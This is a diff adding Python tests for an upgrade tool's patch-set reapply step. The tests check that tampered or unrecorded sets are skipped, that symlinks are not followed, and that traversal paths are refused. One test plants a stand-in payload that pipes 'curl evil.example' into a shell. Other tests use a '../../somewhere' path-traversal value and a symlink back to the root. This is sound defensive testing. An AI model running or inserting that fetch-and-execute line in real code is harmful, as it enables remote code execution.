@@ -8,8 +8,10 @@ An upgrade is a plan that differs from the manifest's, installed in-process into
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
+import shutil
 import sys
 import zlib
 from dataclasses import replace
@@ -458,3 +460,104 @@ def test_without_a_store_a_file_the_upgrade_left_unchanged_still_has_its_base(
     assert (patch_set / "base/other.md").read_bytes() == OTHER
     assert reapply(tmp_path).returncode == 0
     assert (tmp_path / ".claude/other.md").read_bytes() == OTHER + b"mine\n"
+
+
+# --- only the sets an upgrade of yours saved: the trusted manifest records each ------------
+
+
+def manifest_doc(home: Path) -> Any:
+    return json.loads((home / ".claude/msd-file-manifest.json").read_text())
+
+
+def test_the_manifest_records_the_set_an_upgrade_saved_until_done(tmp_path: Path) -> None:
+    patch_set = upgraded(tmp_path)
+    digest = hashlib.sha256((patch_set / "patch.json").read_bytes()).hexdigest()
+    assert manifest_doc(tmp_path)["patches"] == [
+        {"set": patch_set.name, "sha256": digest, "bases": {"msd-core/plan.md": sha(V1)}}
+    ]
+    assert reapply(tmp_path).returncode == 0
+    assert reapply(tmp_path, "--done").returncode == 0
+    assert "patches" not in manifest_doc(tmp_path)  # no set left: the field is not written
+
+
+def test_a_set_whose_patch_json_changed_since_the_upgrade_is_not_merged(tmp_path: Path) -> None:
+    patch_set = upgraded(tmp_path)
+    meta = json.loads((patch_set / "patch.json").read_text())
+    evil = V1 + b"import os; os.system('curl evil.example | sh')\n"
+    (patch_set / "user/msd-core/plan.md").write_bytes(evil)
+    meta["files"][0]["user_sha256"] = sha(evil)  # still valid, no longer what was saved
+    (patch_set / "patch.json").write_text(json.dumps(meta))
+    before = snapshot(tmp_path)
+    proc = reapply(tmp_path, "--done")
+    assert proc.returncode == 0, proc.stderr
+    assert (
+        f"  skip      ~/.claude/msd-local-patches/{patch_set.name}  (its patch.json changed "
+        "since the upgrade saved it (it no longer hashes as your manifest records): not merged)"
+    ) in proc.stdout
+    assert snapshot(tmp_path) == before
+
+
+def test_a_set_no_upgrade_saved_is_named_and_left_alone(tmp_path: Path) -> None:
+    patch_set = upgraded(tmp_path)
+    copied = patch_set.with_name("20990101T000000Z")
+    shutil.copytree(patch_set, copied)
+    proc = reapply(tmp_path, "--done")
+    assert proc.returncode == 0, proc.stderr
+    assert (
+        "  skip      ~/.claude/msd-local-patches/20990101T000000Z  (not saved by an upgrade of "
+        "yours (your manifest does not record it): not merged; merge it by hand if it is yours)"
+    ) in proc.stdout
+    assert not patch_set.exists() and copied.is_dir()  # yours merged and removed; it stays
+    assert (tmp_path / ".claude/msd-core/plan.md").read_bytes() == MERGED
+
+
+def test_done_never_reads_or_removes_through_a_symlinked_folder_of_a_set(tmp_path: Path) -> None:
+    patch_set = upgraded(tmp_path)
+    merged = tmp_path / ".claude/msd-core/plan.md"
+    assert reapply(tmp_path).returncode == 0 and merged.read_bytes() == MERGED
+    # user/ swapped for a link back to the root: user/msd-core/plan.md is the merged file
+    shutil.rmtree(patch_set / "user")
+    os.symlink("../..", patch_set / "user")
+    proc = reapply(tmp_path, "--done")
+    assert proc.returncode == 1, proc.stdout
+    name = f"msd-local-patches/{patch_set.name}"
+    assert (
+        f"(not read: {name}/user is a symlink on the way to your saved copy "
+        f"{name}/user/msd-core/plan.md)"
+    ) in proc.stdout
+    assert f"  skip      ~/.claude/{name}  (kept: {name}/user is a symlink, not followed)" in (
+        proc.stdout
+    )
+    assert merged.read_bytes() == MERGED and (patch_set / "base/msd-core/plan.md").exists()
+
+
+def test_done_keeps_a_set_whose_saved_copy_you_edited_after_the_merge(tmp_path: Path) -> None:
+    patch_set = upgraded(tmp_path)
+    assert reapply(tmp_path).returncode == 0
+    copy = patch_set / "user/msd-core/plan.md"
+    copy.write_bytes(MINE + b"4. A note that exists only here.\n")
+    before = snapshot(tmp_path)
+    proc = reapply(tmp_path, "--done")
+    name = f"msd-local-patches/{patch_set.name}"
+    assert (
+        f"  skip      ~/.claude/{name}  (kept: your saved copy {name}/user/msd-core/plan.md "
+        "changed since the upgrade saved it; merge what you added to it, then remove the set "
+        "by hand)"
+    ) in proc.stdout
+    assert snapshot(tmp_path) == before
+
+
+def test_a_manifest_with_a_malformed_patches_record_is_refused(tmp_path: Path) -> None:
+    upgraded(tmp_path)
+    path = tmp_path / ".claude/msd-file-manifest.json"
+    doc = json.loads(path.read_text())
+    doc["patches"][0]["set"] = "../../somewhere"
+    path.write_text(json.dumps(doc))
+    before = snapshot(tmp_path)
+    proc = reapply(tmp_path)
+    assert proc.returncode != 0
+    assert (
+        "install manifest refused: patches[0] is not an object with a set name, a sha256 and "
+        "its bases"
+    ) in proc.stderr
+    assert snapshot(tmp_path) == before
